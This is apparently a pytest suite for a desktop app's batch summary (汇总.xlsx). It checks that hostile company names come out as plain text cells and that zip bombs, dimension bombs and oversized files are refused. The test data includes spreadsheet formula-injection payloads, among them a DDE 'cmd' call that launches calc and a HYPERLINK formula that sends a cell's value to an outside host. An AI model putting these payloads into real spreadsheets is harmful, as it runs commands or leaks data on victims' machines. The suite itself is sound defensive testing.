"""Hostile companies sheets (issue 13, items 1–3): no formula in 汇总.xlsx, no lost summary, bounded input."""

from __future__ import annotations

import csv
import io
import os
import re
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from desktop_app.batch_summary import SUMMARY_NAME
from desktop_app.cli import main
from desktop_app.sheets import MAX_COLUMNS, SheetError, append_safe_row, read_sheet
from tests.reliability.measure import run_cli

AS_OF = "2023-06-01"
HOSTILE_NAMES = [
    '=HYPERLINK("http://x.example/?"&C2,"点击")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
]
HEADER = ["企业名称", "所在区", "统一社会信用代码"]


def _csv(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def _xlsx(path: Path, rows: list[list[Any]], header: list[str] = HEADER) -> Path:
    """An xlsx whose text cells are plain strings, as a person typing them in Excel with a leading ' gets."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    append_safe_row(sheet, header)
    for row in rows:
        append_safe_row(sheet, row)
    workbook.save(path)
    return path


def _set_dimension(path: Path, ref: str, extra_rows: str = "") -> None:
    """Rewrite the sheet's declared <dimension> (and optionally append raw rows to sheetData)."""
    with zipfile.ZipFile(path) as archive:
        members = [(info, archive.read(info.filename)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in members:
            if info.filename == "xl/worksheets/sheet1.xml":
                text = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{ref}"', data.decode())
                text = text.replace("</sheetData>", f"{extra_rows}</sheetData>")
                data = text.encode()
            archive.writestr(info, data)


def _no_formula_anywhere(summary: Path) -> list[openpyxl.cell.cell.Cell]:
    """Every cell of the produced workbook read back: none is a formula; the raw XML has no <f>."""
    with zipfile.ZipFile(summary) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    cells = [c for row in openpyxl.load_workbook(summary).worksheets[0].iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    return cells


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formula_names_are_text_cells_in_the_summary(tmp_path: Path, kind: str) -> None:
    """Names Excel would run as formulas (HYPERLINK leaking C2, DDE cmd) are string cells, quote-prefixed."""
    rows = [[name, "金山区", ""] for name in HOSTILE_NAMES]
    sheet = _csv(tmp_path / "c.csv", rows) if kind == "csv" else _xlsx(tmp_path / "c.xlsx", rows)
    out = tmp_path / "out"
    assert main(["batch", str(sheet), "--out", str(out), "--as-of", AS_OF, "--jobs", "1"]) == 0
    cells = _no_formula_anywhere(out / SUMMARY_NAME)
    names = {c.value: c for c in cells if c.column == 2 and c.row > 1}
    for name in HOSTILE_NAMES:
        cell = names[name.strip()]  # the sheet reader strips the leading tab of a name
        assert cell.data_type == "s"
        assert cell.quotePrefix, name


def test_control_characters_never_lose_the_summary(tmp_path: Path) -> None:
    """`乙\\v公司` and district `金山\\x01`: those rows fail with their field named, the others are produced,
    and 汇总.xlsx is written with every row (the characters replaced, nothing fatal)."""
    rows = [["甲公司", "金山区", ""], ["乙\v公司", "金山区", ""], ["丙公司", "金山\x01", ""], ["丁公司", "宝山区", ""]]
    sheet = _csv(tmp_path / "c.csv", rows)
    out = tmp_path / "out"
    assert main(["batch", str(sheet), "--out", str(out), "--as-of", AS_OF, "--jobs", "1"]) == 1
    summary = {r[0]: r for r in openpyxl.load_workbook(out / SUMMARY_NAME).worksheets[0].iter_rows(values_only=True)}
    assert sorted(k for k in summary if k != "行号") == [2, 3, 4, 5]
    assert summary[2][-1] is None and summary[5][-1] is None
    assert "name" in summary[3][-1] and "district" in summary[4][-1]
    assert summary[3][1] == "乙\ufffd公司"


def test_safe_row_replaces_illegal_xml_characters() -> None:
    """Any text, however broken, can be appended to a sheet: illegal XML characters become U+FFFD."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    append_safe_row(sheet, ["a\x00b\x1bc\ud800", 3, None])
    workbook.save(io.BytesIO())
    assert sheet["A1"].value == "a\ufffdb\ufffdc\ufffd" and sheet["B1"].value == 3


def test_stale_dimension_still_reads_every_row(tmp_path: Path) -> None:
    """A sheet whose <dimension> says A1:C2 but holds 9 companies: all 9 are produced, none dropped."""
    rows = [[f"企业{i}", "金山区", ""] for i in range(9)]
    path = _xlsx(tmp_path / "c.xlsx", rows)
    _set_dimension(path, "A1:C2")
    assert len(read_sheet(path).rows) == 10
    out = tmp_path / "out"
    assert main(["batch", str(path), "--out", str(out), "--as-of", AS_OF, "--jobs", "1"]) == 0
    summary = list(openpyxl.load_workbook(out / SUMMARY_NAME).worksheets[0].iter_rows(values_only=True))
    assert [r[1] for r in summary[1:]] == [f"企业{i}" for i in range(9)]


def test_dimension_bomb_is_read_as_what_it_holds(tmp_path: Path) -> None:
    """A small file claiming A1:XFD1048576 is read as its real 2 rows, in a child process, within 10 s below 300 MB."""
    path = _xlsx(tmp_path / "bomb.xlsx", [["甲公司", "金山区", ""]])
    _set_dimension(path, "A1:XFD1048576")
    assert path.stat().st_size < 10_000
    run = run_cli(["batch", str(path), "--out", str(tmp_path / "out"), "--as-of", AS_OF, "--jobs", "1"], timeout=30)
    assert run.code == 0, run.err
    assert run.seconds < 10 and run.peak_mb < 300, (run.seconds, run.peak_mb)


def test_dimension_bomb_with_a_far_cell_is_refused(tmp_path: Path) -> None:
    """A ~5 KB file claiming A1:XFD1048576 with a real cell at XFD1048576 is refused (exit 2, nothing written,
    a Chinese line naming the limit) within 10 s below 300 MB."""
    path = _xlsx(tmp_path / "bomb.xlsx", [["甲公司", "金山区", ""]])
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    _set_dimension(path, "A1:XFD1048576", far)
    out = tmp_path / "out"
    run = run_cli(["batch", str(path), "--out", str(out), "--as-of", AS_OF], timeout=30)
    assert run.code == 2 and "行数超过" in run.err, run.err
    assert not out.exists()
    assert run.seconds < 10 and run.peak_mb < 300, (run.seconds, run.peak_mb)


def test_far_column_is_refused(tmp_path: Path) -> None:
    """A value in column XFD of a data row: refused naming the row and the column limit."""
    path = _xlsx(tmp_path / "c.xlsx", [["甲公司", "金山区", ""]])
    _set_dimension(path, "A1:C2", '<row r="3"><c r="XFD3" t="inlineStr"><is><t>x</t></is></c></row>')
    with pytest.raises(SheetError, match=f"第 3 行在第 16384 列有内容，超过了最多 {MAX_COLUMNS} 列"):
        read_sheet(path)


def test_zip_bomb_sheet_is_refused_before_inflating(tmp_path: Path) -> None:
    """An xlsx with a 1 GiB (declared and real) member is refused from the zip directory alone."""
    path = _xlsx(tmp_path / "c.xlsx", [["甲公司", "金山区", ""]])
    # deflate level 1: the same 1 GiB member, built in a third of the time (still under 5 MiB on disk)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/big.bin", "w") as big,
    ):
        chunk = b"\0" * 2**24
        for _ in range(64):
            big.write(chunk)
    assert path.stat().st_size < 5 * 2**20
    with pytest.raises(SheetError, match="解压后太大"):
        read_sheet(path)


def test_merged_district_is_filled_and_warned(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A district merged over rows 2–4 is not silently unanswered for rows 3–4: each row gets 金山区, with a warning."""
    path = tmp_path / "c.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    rows: list[Sequence[str | None]] = [
        HEADER,
        ["甲公司", "金山区", None],
        ["乙公司", None, None],
        ["丙公司", None, None],
    ]
    for row in rows:
        append_safe_row(sheet, row)
    sheet.merge_cells("B2:B4")
    workbook.save(path)
    out = tmp_path / "out"
    assert main(["batch", str(path), "--out", str(out), "--as-of", AS_OF, "--jobs", "1"]) == 0
    assert "B2:B4 是合并单元格" in capsys.readouterr().err
    summary = list(openpyxl.load_workbook(out / SUMMARY_NAME).worksheets[0].iter_rows(values_only=True))
    assert [r[3] for r in summary[1:]] == ["金山区"] * 3


def test_too_many_columns_in_csv_is_refused(tmp_path: Path) -> None:
    """A CSV row with content beyond the column limit is refused with the row and limit named."""
    path = _csv(tmp_path / "c.csv", [["甲公司", "金山区", "", *([""] * MAX_COLUMNS), "x"]])
    with pytest.raises(SheetError, match="第 2 行"):
        read_sheet(path)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_symlink_to_dev_zero_is_refused_at_once(tmp_path: Path) -> None:
    """A sheet that is a symlink to /dev/zero is refused as not a regular file, without reading it."""
    link = tmp_path / "名单.csv"
    os.symlink("/dev/zero", link)
    with pytest.raises(SheetError, match="不是普通文件"):
        read_sheet(link)


def test_oversized_sheet_file_is_refused(tmp_path: Path) -> None:
    """A 60 MB (sparse) CSV is refused by its size, reading at most the limit."""
    path = tmp_path / "big.csv"
    with path.open("wb") as handle:
        handle.truncate(60 * 2**20)
    with pytest.raises(SheetError, match="太大"):
        read_sheet(path)
